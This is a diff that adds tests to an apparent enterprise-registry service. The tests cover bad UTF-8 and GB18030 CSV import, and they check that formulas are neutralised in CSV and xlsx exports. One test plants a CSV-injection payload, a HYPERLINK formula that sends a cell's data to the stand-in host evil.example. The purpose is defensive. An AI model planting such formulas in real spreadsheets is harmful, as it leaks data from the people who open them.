@@ -1,3 +1,4 @@
+import { parse as parseCsv } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { generateUscc } from '../../core/codes/uscc.ts';
@@ -185,6 +186,82 @@ describe('import and export (E-2)', () => {
     expect(imp.failed).toBe(0);
     expect(imp.total).toBeGreaterThan(0);
     expect(imp.unchanged).toBe(imp.total);
+  });
+
+  it('reports a CSV row whose bytes are not UTF-8 by row and column, commits the good rows, with or without a BOM (issue 12 item 14)', async () => {
+    for (const bom of [Buffer.alloc(0), Buffer.from([0xef, 0xbb, 0xbf])]) {
+      const good = newUscc();
+      const bad = newUscc();
+      const file = Buffer.concat([
+        bom,
+        Buffer.from(`统一社会信用代码,企业名称,地址\n${good},上海编码测试甲有限公司,上海市闵行区\n`),
+        Buffer.from(`${bad},上海编码测试`),
+        Buffer.from([0xff, 0xfe, 0xc3]),
+        Buffer.from('有限公司,上海市闵行区\n'),
+      ]);
+      const res = await upload(as.dept!, 'enterprises.csv', file);
+      expect(res.statusCode, res.body).toBe(200);
+      const r = res.json() as { total: number; inserted: number; failed: number; errors: Array<{ row: number; column: string; reason: string }> };
+      expect(r).toMatchObject({ total: 2, inserted: 1, failed: 1 });
+      expect(r.errors).toEqual([{ row: 3, column: 'name', reason: expect.stringContaining('UTF-8') }]);
+      expect((await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises/${good}` })).json()).toMatchObject({ name: '上海编码测试甲有限公司' });
+      expect((await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises/${bad}` })).statusCode).toBe(404);
+      const stored = await t.db.selectFrom('enterprises').select('name').where('name', 'like', '%\uFFFD%').execute();
+      expect(stored).toEqual([]);
+    }
+  });
+
+  it('reads a GB18030 CSV as saved by Excel on Chinese Windows', async () => {
+    const u = newUscc();
+    // 统一社会信用代码,企业名称 / <uscc>,上海国标编码有限公司 in GB18030 (GBK) bytes.
+    const header = Buffer.from('cdb3d2bbc9e7bbe1d0c5d3c3b4fac2eb2cc6f3d2b5c3fbb3c60a', 'hex');
+    const name = Buffer.from('c9cfbaa3b9fab1eab1e0c2ebd3d0cfdeb9abcbbe', 'hex');
+    expect(new TextDecoder('gb18030').decode(Buffer.concat([header, name]))).toBe('统一社会信用代码,企业名称\n上海国标编码有限公司');
+    const res = await upload(as.dept!, 'gbk.csv', Buffer.concat([header, Buffer.from(`${u},`), name, Buffer.from('\n')]));
+    expect(res.json()).toMatchObject({ total: 1, inserted: 1, failed: 0 });
+    expect((await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises/${u}` })).json()).toMatchObject({ name: '上海国标编码有限公司' });
+  });
+
+  it('neutralises formula cells in the CSV export; the .xlsx export keeps them as inert text (issue 12 item 15)', async () => {
+    const ent = `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}`;
+    const original = (await as.admin!.request({ method: 'GET', url: ent })).json() as { address: string | null; park: string | null };
+    const planted = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")';
+    // The enterprise plants a formula in its own (self-reported) address; an admin sets another field.
+    expect((await as.enterprise!.request({ method: 'PATCH', url: ent, payload: { address: planted } })).statusCode).toBe(200);
+    expect((await as.admin!.request({ method: 'PATCH', url: ent, payload: { park: '@SUM(1+1)' } })).statusCode).toBe(200);
+    // The street official exports the registry.
+    const res = await as.street!.request({ method: 'GET', url: `/api/v1/enterprises/export.csv?q=${encodeURIComponent('闵欣')}` });
+    expect(res.statusCode).toBe(200);
+    const table = parseCsv(res.body, { bom: true }) as string[][];
+    const header = table[0]!;
+    const row = table.find((r) => r.includes(DEMO_ENTERPRISE_USCC))!;
+    expect(row[header.indexOf('地址')]).toBe(`'${planted}`);
+    expect(row[header.indexOf('所属园区')]).toBe("'@SUM(1+1)");
+    // No cell of the file starts a formula; numbers stay numbers.
+    for (const r of table) for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(Number(row[header.indexOf('从业人数')])).toBeGreaterThan(0);
+    // Our own CSV re-imported changes nothing: the apostrophe is taken off again (an admin's export: nothing masked).
+    const full = await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises/export.csv?q=${encodeURIComponent('闵欣')}` });
+    expect(full.body).toContain(`'${planted.replace(/"/g, '""')}`);
+    const again = (await upload(as.admin!, 'export.csv', full.rawPayload)).json() as { total: number; unchanged: number; failed: number };
+    expect(again).toMatchObject({ total: 1, unchanged: 1, failed: 0 });
+    // exceljs writes a string as a string cell, never a formula: the .xlsx needs no prefix.
+    const xlsx = await as.street!.request({ method: 'GET', url: `/api/v1/enterprises/export.xlsx?q=${encodeURIComponent('闵欣')}` });
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+    const ws = wb.worksheets[0]!;
+    const headers = (ws.getRow(1).values as unknown[]).map(String);
+    let found = false;
+    ws.eachRow((r, n) => {
+      if (n === 1 || r.getCell(headers.indexOf('统一社会信用代码')).value !== DEMO_ENTERPRISE_USCC) return;
+      const cell = r.getCell(headers.indexOf('地址'));
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+      expect(cell.value).toBe(planted);
+      found = true;
+    });
+    expect(found).toBe(true);
+    expect((await as.admin!.request({ method: 'PATCH', url: ent, payload: { address: original.address, park: original.park } })).statusCode).toBe(200);
   });
 
   it('rejects wrong file types and disguised files without writing', async () => {
